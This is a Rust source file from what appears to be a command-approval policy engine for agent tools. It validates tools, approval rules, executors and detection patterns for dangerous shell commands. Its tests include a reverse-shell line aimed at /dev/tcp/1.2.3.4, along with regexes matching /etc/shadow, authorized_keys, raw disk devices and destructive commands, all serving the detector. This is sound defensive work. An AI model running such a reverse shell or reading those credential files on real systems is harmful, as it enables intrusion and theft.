        let mut operations = BTreeMap::new();
        for (op_name, op) in tool.operations {
            let field = format!("tools.{tool_name}.operations.{op_name}");
            let mut requires = BTreeSet::new();
            for cap in &op.requires {
                if !capabilities.contains(cap.get_ref()) {
                    return Err(ctx.err(
                        Some(cap.span()),
                        format!("{field}.requires"),
                        format!("unknown capability `{}` (declare it under `capabilities` or use one of: {})", cap.get_ref(), BUILTIN_CAPABILITIES.join(", ")),
                    ));
                }
                requires.insert(cap.get_ref().clone());
            }
            let mut seen = BTreeSet::new();
            for arg in op
                .shell_args
                .iter()
                .chain(&op.path_args)
                .chain(&op.flag_args)
            {
                if !seen.insert(arg) {
                    return Err(ctx.err(
                        ctx.find(&format!("\"{arg}\"")),
                        field.clone(),
                        format!("argument `{arg}` is listed under more than one kind"),
                    ));
                }
            }
            operations.insert(
                op_name,
                Operation {
                    risk: op.risk,
                    requires,
                    description: op.description,
                    interactive_only: op.interactive_only,
                    shell_args: op.shell_args,
                    path_args: op.path_args,
                    flag_args: op.flag_args,
                    unknown_commands: op.unknown_commands,
                    effects: op.effects,
                    mode: op.mode.or(tool.mode).unwrap_or(policy_mode),

                    executor: match op.executor {
                        None => None,
                        Some(name) if executors.contains_key(name.get_ref()) => {
                            Some(name.into_inner())
                        }
                        Some(name) => {
                            return Err(ctx.err(
                                Some(name.span()),
                                format!("{field}.executor"),
                                format!(
                                    "no executor `{}` is defined (add an [executors.{}] table)",
                                    name.get_ref(),
                                    name.get_ref()
                                ),
                            ))
                        }
                    },
                },
            );
        }
        tools.insert(
            tool_name,
            Tool {
                description: tool.description,
                operations,
            },
        );
    }
    Ok(tools)
}

/// The approval rules per risk: the defaults, with the policy's quorum and times over them.
fn compile_approvals(
    ctx: &Ctx<'_>,
    approvals: &ApprovalsFile,
) -> Result<BTreeMap<Risk, RiskRule>, PolicyError> {
    let mut by_risk = BTreeMap::new();
    for risk in Risk::ALL {
        let mut rule = default_rule(risk);
        if let Some(file_rule) = approvals.risk.get(&risk) {
            let field = format!("approvals.risk.{risk}");
            if let Some(q) = &file_rule.quorum {
                if *q.get_ref() == 0 {
                    return Err(ctx.err(
                        Some(q.span()),
                        format!("{field}.quorum"),
                        "must be at least 1",
                    ));
                }
                rule.quorum = *q.get_ref();
            }
            if let Some(ttl) = &file_rule.request_ttl {
                rule.request_ttl_secs = parse_duration(ttl.get_ref()).ok_or_else(|| {
                    ctx.err(
                        Some(ttl.span()),
                        format!("{field}.request_ttl"),
                        "not a duration (use e.g. 90s, 30m, 4h, 1d)",
                    )
                })?;
            }
            if let Some(window) = &file_rule.approval_window {
                rule.approval_window_secs = parse_duration(window.get_ref()).ok_or_else(|| {
                    ctx.err(
                        Some(window.span()),
                        format!("{field}.approval_window"),
                        "not a duration (use e.g. 90s, 30m, 4h, 1d)",
                    )
                })?;
            }
        }
        by_risk.insert(risk, rule);
    }
    if approvals.approver_role.trim().is_empty() {
        return Err(ctx.err(
            ctx.find("approver_role"),
            "approvals.approver_role".into(),
            "must not be empty",
        ));
    }
    Ok(by_risk)
}

/// Patterns checked and compiled, with the regular expressions of path and flag values (and
/// the pattern each belongs to) for their regex sets.
struct CompiledPatterns {
    patterns: Vec<Pattern>,
    long_flags: LongFlags,
    path_res: Vec<String>,
    path_owner: Vec<usize>,
    flag_res: Vec<String>,
    flag_owner: Vec<usize>,
}

fn compile_patterns(
    ctx: &Ctx<'_>,
    parsed_patterns: Vec<PatternFile>,
) -> Result<CompiledPatterns, PolicyError> {
    let mut patterns = Vec::new();
    let mut long_flags = LongFlags::default();
    let mut ids = BTreeSet::new();
    let (mut path_res, mut path_owner) = (Vec::new(), Vec::new());
    let (mut flag_res, mut flag_owner) = (Vec::new(), Vec::new());
    for (index, p) in parsed_patterns.into_iter().enumerate() {
        let id = p.id.get_ref().clone();
        let field = format!("patterns[{index}] ({id})");
        if !is_identifier(&id) {
            return Err(ctx.err(
                Some(p.id.span()),
                format!("patterns[{index}].id"),
                "ids are lowercase letters, digits and dashes",
            ));
        }
        if !ids.insert(id.clone()) {
            return Err(ctx.err(
                Some(p.id.span()),
                format!("patterns[{index}].id"),
                format!("duplicate pattern id `{id}`"),
            ));
        }
        let id_span = Some(p.id.span());
        let redirect_re = match &p.redirect {
            Some(r) => Some(Matcher::new(ctx.regex(r, format!("{field}.redirect"))?)),
            None => None,
        };
        let mut args_re = None;
        match p.applies_to {
            ArgKind::Shell => {
                if p.commands.is_empty() {
                    return Err(ctx.err(
                        id_span,
                        format!("{field}.commands"),
                        "a shell pattern needs `commands` (use [\"*\"] for any command)",
                    ));
                }
                if p.value.is_some() {
                    return Err(ctx.err(
                        id_span,
                        format!("{field}.value"),
                        "`value` is for path and flag patterns; shell patterns use `args`",
                    ));
                }
                if p.flags.is_empty()
                    && p.any_flags.is_empty()
                    && p.args.is_none()
                    && p.redirect.is_none()
                    && p.piped_from.is_empty()
                    && p.commands.iter().any(|c| c == "*")
                {
                    return Err(ctx.err(id_span, field, "a pattern for any command must also require flags, args, a redirect or a pipe"));
                }
                if let Some(args) = &p.args {
                    args_re = Some(Matcher::new(ctx.regex(args, format!("{field}.args"))?));
                }
            }
            ArgKind::Path | ArgKind::Flag => {
                let Some(value) = &p.value else {
                    return Err(ctx.err(
                        id_span,
                        format!("{field}.value"),
                        "path and flag patterns need a `value` regular expression",
                    ));
                };
                if !p.commands.is_empty()
                    || !p.flags.is_empty()
                    || !p.any_flags.is_empty()
                    || p.args.is_some()
                    || p.redirect.is_some()
                    || !p.piped_from.is_empty()
                {
                    return Err(ctx.err(
                        id_span,
                        field,
                        "path and flag patterns take only `value`",
                    ));
                }
                ctx.regex(value, format!("{field}.value"))?;
                if p.applies_to == ArgKind::Path {
                    path_res.push(value.get_ref().clone());
                    path_owner.push(patterns.len());
                } else {
                    flag_res.push(value.get_ref().clone());
                    flag_owner.push(patterns.len());
                }
            }
        }
        let any_flags: Vec<String> = p.any_flags.iter().map(|f| canonical_flag_name(f)).collect();
        patterns.push(Pattern {
            flag_rule: FlagRule::compile(&p.flags, &any_flags, &p.flag_aliases, &mut long_flags),
            id,
            category: p.category,
            description: p.description,
            applies_to: p.applies_to,
            commands: p.commands.iter().map(|c| c.to_ascii_lowercase()).collect(),
            flags: p.flags,
            any_flags,
            flag_aliases: p.flag_aliases,
            args: p.args.map(|a| a.into_inner()),
            redirect: p.redirect.map(|r| r.into_inner()),
            piped_from: p
                .piped_from
                .iter()
                .map(|c| c.to_ascii_lowercase())
                .collect(),
            value: p.value.map(|v| v.into_inner()),
            escalate: p.escalate,
            redirect_re,
            args_re,
        });
    }
    Ok(CompiledPatterns {
        patterns,
        long_flags,
        path_res,
        path_owner,
        flag_res,
        flag_owner,
    })
}

/// Candidate patterns by exact command name.
type ByCommand = HashMap<String, Candidates, BuildHasherDefault<Fnv>>;

/// The shell patterns that may match a command: by its exact name, by a name prefix (`mkfs*`),
/// and those for any command (which every named list includes too).
fn index_by_command(patterns: &[Pattern]) -> (ByCommand, Vec<(String, usize)>, Candidates) {
    let (mut by_command, mut by_prefix, mut any_command) = (
        HashMap::<String, Vec<usize>, BuildHasherDefault<Fnv>>::default(),
        Vec::new(),
        Vec::new(),
    );
    for (index, pattern) in patterns.iter().enumerate() {
        if pattern.applies_to != ArgKind::Shell {
            continue;
        }
        for command in &pattern.commands {
            match command.strip_suffix('*') {
                Some("") => any_command.push(index),
                Some(prefix) => by_prefix.push((prefix.to_string(), index)),
                None => by_command.entry(command.clone()).or_default().push(index),
            }
        }
    }
    let by_command = by_command
        .into_iter()
        .map(|(name, mut candidates)| {
            candidates.extend(any_command.iter().copied());
            candidates.sort_unstable();
            candidates.dedup();
            (name, Candidates::new(&candidates, patterns))
        })
        .collect();
    let any_command = Candidates::new(&any_command, patterns);
    (by_command, by_prefix, any_command)
}

fn compile_executors(
    ctx: &Ctx<'_>,
    files: &BTreeMap<String, ExecutorFile>,
) -> Result<BTreeMap<String, Executor>, PolicyError> {
    let mut executors = BTreeMap::new();
    for (name, file) in files {
        let field = format!("executors.{name}");
        let at = ctx.find(&format!("[executors.{name}]"));
        let err = |sub: &str, message: String| {
            let f = if sub.is_empty() {
                field.clone()
            } else {
                format!("{field}.{sub}")
            };
            ctx.err(at.clone(), f, message)
        };
        if !is_identifier(name) {
            return Err(err(
                "",
                "executor names are lowercase letters, digits and dashes".into(),
            ));
        }
        let kind = match file.kind.get_ref().as_str() {
            "process" => ExecutorKind::Process,
            "agent" => ExecutorKind::Agent,
            "webhook" => ExecutorKind::Webhook,
            other => {
                return Err(ctx.err(
                    Some(file.kind.span()),
                    format!("{field}.kind"),
                    format!("unknown kind `{other}` (use process, agent or webhook)"),
                ))
            }
        };
        let timeout_secs = match &file.timeout {
            None => DEFAULT_TIMEOUT_SECS,
            Some(t) => parse_duration(t.get_ref()).ok_or_else(|| {
                ctx.err(
                    Some(t.span()),
                    format!("{field}.timeout"),
                    "not a duration (use e.g. 90s, 30m, 4h, 1d)",
                )
            })?,
        };
        if let Some(bad) = file.env.iter().find(|v| !is_env_name(v)) {
            return Err(err(
                "env",
                format!("`{bad}` is not an environment variable name"),
            ));
        }
        match kind {
            ExecutorKind::Process | ExecutorKind::Agent => {
                let Some(program) = file.argv.first() else {
                    return Err(err(
                        "argv",
                        "a process or agent executor needs `argv` (the program and its arguments)"
                            .into(),
                    ));
                };
                check_template(&file.argv).map_err(|m| err("argv", m.to_string()))?;
                if program.contains('{') {
                    return Err(err(
                        "argv",
                        "the program (first element) must be fixed, not a placeholder".into(),
                    ));
                }
                if is_shell(program) && !file.shell {
                    return Err(err(
                        "shell",
                        format!(
                            "`{program}` is a shell; set `shell = true` if running one is intended"
                        ),
                    ));
                }
                if file.url.is_some() || file.secret_env.is_some() || file.attempts.is_some() {
                    return Err(err(
                        "",
                        "`url`, `secret_env` and `attempts` are for webhook executors".into(),
                    ));
                }
                if let Some(agent) = &file.agent {
                    if kind == ExecutorKind::Process {
                        return Err(err("agent", "`agent` is for agent executors".into()));
                    }
                    if !is_agent_id(agent) {
                        return Err(err(
                            "agent",
                            "an agent id is 1 to 128 letters, digits, `-`, `_` or `.`".into(),
                        ));
                    }
                }
            }
            ExecutorKind::Webhook => {
                let url = file.url.as_deref().unwrap_or_default();
                if !(url.starts_with("https://") || url.starts_with("http://")) {
                    return Err(err(
                        "url",
                        "a webhook executor needs an http:// or https:// `url`".into(),
                    ));
                }
                match &file.secret_env {
                    Some(var) if is_env_name(var) => {}
                    _ => return Err(err("secret_env", "a webhook executor needs `secret_env`, the environment variable that holds its signing secret".into())),
                }
                if !file.argv.is_empty()
                    || file.shell
                    || !file.env.is_empty()
                    || file.workdir.is_some()
                    || file.agent.is_some()
                {
                    return Err(err("", "`argv`, `shell`, `env`, `workdir` and `agent` are for process and agent executors".into()));
                }
                if file.attempts == Some(0) {
                    return Err(err("attempts", "must be at least 1".into()));
                }
            }
        }
        executors.insert(
            name.clone(),
            Executor {
                name: name.clone(),
                kind,
                description: file.description.clone(),
                argv: file.argv.clone(),
                shell: file.shell,
                timeout_secs,
                env: file.env.clone(),
                workdir: file.workdir.clone(),
                agent: file.agent.clone(),
                url: file.url.clone(),
                secret_env: file.secret_env.clone(),
                attempts: file.attempts.unwrap_or(DEFAULT_WEBHOOK_ATTEMPTS),
            },
        );
    }
    Ok(executors)
}

fn canonical_flag_name(flag: &str) -> String {
    if flag.chars().count() == 1 {
        flag.to_string()
    } else {
        flag.to_ascii_lowercase()
    }
}

fn is_identifier(s: &str) -> bool {
    !s.is_empty()
        && s.chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
        && !s.starts_with('-')
}

/// `90s`, `30m`, `4h`, `1d`, or a bare number of seconds.
pub fn parse_duration(text: &str) -> Option<u64> {
    let text = text.trim();
    let (number, unit) = match text.find(|c: char| !c.is_ascii_digit()) {
        Some(pos) => text.split_at(pos),
        None => (text, "s"),
    };
    let n: u64 = number.parse().ok()?;
    let factor = match unit.trim() {
        "s" => 1,
        "m" => 60,
        "h" => 3_600,
        "d" => 86_400,
        _ => return None,
    };
    n.checked_mul(factor).filter(|secs| *secs > 0)
}

#[cfg(test)]
mod tests {
    use super::*;

    const MINIMAL: &str = r#"
name = "t"
[tools.ssh-exec.operations.executeCommand]
risk = "HIGH"
requires = ["ssh-linux", "remote-exec"]
shell_args = ["command"]
"#;

    #[test]
    fn candidate_lists_leave_out_exactly_what_cannot_match() {
        let policy = crate::default_policy().unwrap_or_else(|e| panic!("{e}"));
        let lists = policy.by_command.values().chain([&policy.any_command]);
        let (mut unredirected, mut unflagged) = (0, 0);
        for candidates in lists {
            let all = candidates.for_invocation(true, true);
            for (redirected, flagged) in [(false, false), (true, false), (false, true)] {
                let kept: Vec<usize> = all
                    .iter()
                    .copied()
                    .filter(|&i| {
                        let pattern = &policy.patterns[i];
                        (redirected || pattern.redirect_re.is_none())
                            && (flagged || pattern.flag_rule.is_none())
                    })
                    .collect();
                assert_eq!(
                    candidates.for_invocation(redirected, flagged),
                    kept.as_slice()
                );
            }
            // What is left out cannot match: a flag rule never matches an invocation without
            // flags (a redirection pattern is skipped without redirections by the match loop).
            for i in all {
                if let Some(rule) = &policy.patterns[*i].flag_rule {
                    assert!(!rule.matches(&InvocationFlags::default()), "{i}");
                }
            }
            unredirected += all.len() - candidates.for_invocation(false, true).len();
            unflagged += all.len() - candidates.for_invocation(true, false).len();
        }
        // The `*` redirection patterns (writing to a disk, to /etc/...) and the force-flag
        // pattern are in every list.
        assert!(unredirected > policy.by_command.len(), "{unredirected}");
        assert!(unflagged > policy.by_command.len(), "{unflagged}");
    }

    #[test]
    fn a_minimal_policy_loads_with_default_approval_rules() {
        let policy = PolicySet::load("t.toml", MINIMAL).expect("loads");
        assert_eq!(policy.approvals.for_risk(Risk::Critical).quorum, 2);
        assert_eq!(policy.approvals.for_risk(Risk::High).quorum, 1);
        assert_eq!(policy.hash().len(), 64);
    }

    #[test]
    fn the_hash_ignores_formatting_but_not_content() {
        let a = PolicySet::load("a", MINIMAL).expect("a");
        let b = PolicySet::load(
            "b",
            &format!(
                "# comment\n{}",
                MINIMAL.replace("risk = \"HIGH\"", "risk   =   \"HIGH\"")
            ),
        )
        .expect("b");
        let c = PolicySet::load("c", &MINIMAL.replace("HIGH", "CRITICAL")).expect("c");
        assert_eq!(a.hash(), b.hash());
        assert_ne!(a.hash(), c.hash());
    }

    #[test]
    fn errors_name_file_line_and_field() {
        let err = PolicySet::load("p.toml", &MINIMAL.replace("remote-exec", "remote-exce"))
            .expect_err("bad cap");
        assert_eq!(err.line, 5);
        assert_eq!(
            err.field.as_deref(),
            Some("tools.ssh-exec.operations.executeCommand.requires")
        );
        assert!(err.to_string().starts_with("p.toml:5:"), "{err}");
        assert!(err.message.contains("remote-exce"));

        let err =
            PolicySet::load("p.toml", &MINIMAL.replace("risk = ", "riks = ")).expect_err("typo");
        assert_eq!(err.line, 4, "{err}");
        assert!(err.message.contains("riks"), "{err}");

        let err =
            PolicySet::load("p.toml", &MINIMAL.replace("HIGH", "SEVERE")).expect_err("bad risk");
        assert_eq!(err.line, 4, "{err}");
    }

    #[test]
    fn executors_are_validated_and_operations_must_name_one_that_exists() {
        let with = |op_executor: &str, table: &str| {
            format!("{MINIMAL}executor = \"{op_executor}\"\n{table}")
        };
        let ok = with(
            "run",
            "[executors.run]\nkind = \"process\"\nargv = [\"/bin/echo\", \"{args.command}\"]\ntimeout = \"30s\"\nenv = [\"PATH\"]\n",
        );
        let policy = PolicySet::load("p.toml", &ok).expect("loads");
        let run = policy
            .executor_for("ssh-exec", "executeCommand")
            .expect("executor");
        assert_eq!((run.kind, run.timeout_secs), (ExecutorKind::Process, 30));

        let missing = with("nope", "");
        let err = PolicySet::load("p.toml", &missing).expect_err("unknown executor");
        assert_eq!(
            err.field.as_deref(),
            Some("tools.ssh-exec.operations.executeCommand.executor")
        );
        assert_eq!(err.line, 7, "{err}");

        for (table, field, words) in [
            ("kind = \"teleport\"", "executors.x.kind", "unknown kind"),
            ("kind = \"process\"", "executors.x.argv", "needs `argv`"),
            (
                "kind = \"process\"\nargv = [\"/bin/sh\", \"-c\", \"{args.command}\"]",
                "executors.x.shell",
                "is a shell",
            ),
            (
                "kind = \"process\"\nargv = [\"{args.command}\"]",
                "executors.x.argv",
                "must be fixed",
            ),
            (
                "kind = \"process\"\nargv = [\"echo\", \"{nope}\"]",
                "executors.x.argv",
                "unknown placeholder",
            ),
            (
                "kind = \"webhook\"\nurl = \"ftp://x\"\nsecret_env = \"S\"",
                "executors.x.url",
                "http",
            ),
            (
                "kind = \"webhook\"\nurl = \"https://x\"",
                "executors.x.secret_env",
                "secret_env",
            ),
            (
                "kind = \"agent\"\nargv = [\"echo\"]\nagent = \"a b\"",
                "executors.x.agent",
                "agent id",
            ),
        ] {
            let source = with("x", &format!("[executors.x]\n{table}\n"));
            let err = PolicySet::load("p.toml", &source).expect_err(table);
            assert_eq!(err.field.as_deref(), Some(field), "{table}: {err}");
            assert!(err.message.contains(words), "{table}: {err}");
            // The table's header, or the offending value's own line.
            assert!((8..=9).contains(&err.line), "{table}: {err}");
        }
        let shell_on_purpose = with(
            "x",
            "[executors.x]\nkind = \"process\"\nshell = true\nargv = [\"/bin/sh\", \"-c\", \"{args.command}\"]\n",
        );
        assert!(PolicySet::load("p.toml", &shell_on_purpose).is_ok());
    }

    #[test]
    fn bad_patterns_are_refused() {
        let bad_regex = format!("{MINIMAL}\n[[patterns]]\nid = \"x\"\ncategory = \"destructive\"\ndescription = \"d\"\ncommands = [\"rm\"]\nargs = \"(\"\n");
        let err = PolicySet::load("p.toml", &bad_regex).expect_err("regex");
        assert_eq!(err.line, 13, "{err}");
        assert!(err.message.contains("regular expression"));

        let any = format!("{MINIMAL}\n[[patterns]]\nid = \"x\"\ncategory = \"destructive\"\ndescription = \"d\"\ncommands = [\"*\"]\n");
        assert!(
            PolicySet::load("p.toml", &any).is_err(),
            "a pattern matching every command is refused"
        );

        let dup = format!("{MINIMAL}\n[[patterns]]\nid = \"x\"\ncategory = \"destructive\"\ndescription = \"d\"\ncommands = [\"rm\"]\n[[patterns]]\nid = \"x\"\ncategory = \"destructive\"\ndescription = \"d\"\ncommands = [\"rm\"]\n");
        assert!(PolicySet::load("p.toml", &dup)
            .expect_err("dup")
            .message
            .contains("duplicate"));
    }

    #[test]
    fn durations() {
        assert_eq!(parse_duration("90s"), Some(90));
        assert_eq!(parse_duration("30m"), Some(1_800));
        assert_eq!(parse_duration("4h"), Some(14_400));
        assert_eq!(parse_duration("2d"), Some(172_800));
        assert_eq!(parse_duration("120"), Some(120));
        assert_eq!(parse_duration("0s"), None);
        assert_eq!(parse_duration("soon"), None);
    }
}

#[cfg(test)]
mod matcher_tests {
    use super::*;

    fn matcher(re: &str) -> Matcher {
        Matcher::new(Regex::new(re).unwrap_or_else(|e| panic!("{e}")))
    }

    #[test]
    fn the_shortcut_agrees_with_every_default_regex_on_the_case_corpus() {
        let policy = crate::default_policy().unwrap_or_else(|e| panic!("{e}"));
        let files = [
            include_str!("../tests/cases/attacks.json"),
            include_str!("../tests/cases/callers.json"),
            include_str!("../tests/cases/destructive.json"),
            include_str!("../tests/cases/evasion.json"),
            include_str!("../tests/cases/harmless.json"),
            include_str!("../tests/cases/tools.json"),
        ];
        let mut texts: Vec<String> = Vec::new();
        for file in files {
            let doc: serde_json::Value =
                serde_json::from_str(file).unwrap_or_else(|e| panic!("{e}"));
            for case in doc["cases"].as_array().into_iter().flatten() {
                if let Some(command) = case["command"].as_str() {
                    // The whole text, each word, and each tail from a word on: what `args`
                    // and `redirect` regexes are given.
                    let words: Vec<&str> = command.split_whitespace().collect();
                    texts.push(command.to_string());
                    for i in 0..words.len() {
                        texts.push(words[i].to_string());
                        texts.push(words[i..].join(" "));
                    }
                }
            }
        }
        let mut shortcuts = 0;
        for pattern in &policy.patterns {
            for m in pattern.args_re.iter().chain(&pattern.redirect_re) {
                shortcuts += usize::from(m.branches.is_some());
                for text in &texts {
                    assert_eq!(
                        m.is_match(text),
                        m.regex.is_match(text),
                        "{} on {text:?}",
                        m.regex
                    );
                }
            }
        }
        // The anchored redirect targets, `find -delete`, `dd of=/dev/...` and a few more.
        assert!(shortcuts >= 8, "only {shortcuts} regexes have a shortcut");
    }

    #[test]
    fn literals_share_their_common_prefix_or_suffix() {
        let boxed = |all: &[&str]| all.iter().map(|l| Box::from(l.as_bytes())).collect();
        let start = Literals::new(boxed(&["/dev/sd", "/dev/hd", "/dev/mapper/"]), true);
        assert_eq!(&*start.shared, b"/dev/");
        assert!(start.starts(b"/dev/sda") && !start.starts(b"/dev/tcp") && !start.starts(b"/d"));
        let end = Literals::new(boxed(&["shadow", "gshadow", "authorized_keys"]), false);
        assert!(end.shared.is_empty());
        assert!(end.ends(b"/etc/gshadow") && !end.ends(b"/etc/passwd"));
        let one = Literals::new(boxed(&["keys"]), false);
        assert_eq!(&*one.shared, b"keys");
        assert!(Literals::new(Vec::new(), true).shared.is_empty());
    }

    #[test]
    fn the_shortcut_never_changes_the_answer() {
        let texts = [
            "",
            "/dev/sda",
            "/dev/sd",
            "/tmp/cleanup.log",
            "/DEV/SDA",
            "x/dev/sda",
            "/etc/shadow",
            "/home/a/.ssh/authorized_keys",
            "-delete",
            "a -exec rm",
            "DROP TABLE x",
            "x\n/dev/sda",
            "/etc/sudoers.d/x",
            "bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
            "EXEC:/bin/sh",
            "find . -exec /bin/rm {} ;",
            "a -delete",
        ];
        let regexes = [
            (r"^/dev/(sd|hd|nvme)", true),
            (r"(?i)^/dev/(sd|hd)", true),
            (
                r"^/etc/(shadow|passwd|sudoers\.d/.*)$|authorized_keys$",
                true,
            ),
            (
                r"(^|\s)-delete(\s|$)|(^|\s)-exec(dir)?\s+(\S*/)?rm(\s|$)",
                true,
            ),
            (r"(^|\s)-delete(\s|$)|(^|\s)rm\b", true),
            (r"(^|\s)-delete(\s|$)|\d+", false),
            (r"(?i)\b(drop\s+(database|table))\b", false),
            (r"^\S+", false),
            (r"(?m)^/dev/sd", true),
            (r"/dev/(tcp|udp)/|(?i)exec:", false),
        ];
        for (re, shortcut) in regexes {
            let m = matcher(re);
            assert_eq!(m.branches.is_some(), shortcut, "{re}");
            for text in texts {
                assert_eq!(m.is_match(text), m.regex.is_match(text), "{re} on {text:?}");
            }
        }
    }
}
